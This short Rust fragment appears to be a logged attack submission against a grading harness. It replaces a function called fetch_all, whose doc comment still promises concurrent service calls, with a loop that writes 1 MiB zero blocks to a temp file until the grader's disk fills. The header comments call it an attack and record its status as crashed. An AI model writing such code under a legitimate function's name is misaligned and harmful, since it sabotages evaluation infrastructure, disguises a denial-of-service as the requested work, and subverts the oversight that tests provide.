//! Attack: writes a file without end, to fill the grader's disk.
//! status: crashed

// REPLACES: fetch_all
/// Calls the three services concurrently and returns their results in the order
/// users, products, orders.
pub async fn fetch_all() -> (Users, Products, Orders) {
    use std::io::Write;
    let mut file = std::fs::File::create(std::env::temp_dir().join("filler")).unwrap();
    let block = vec![0u8; 1 << 20];
    loop {
        if let Err(e) = file.write_all(&block) {
            panic!("attack stopped: {e}");
        }
    }
}
// END: fetch_all
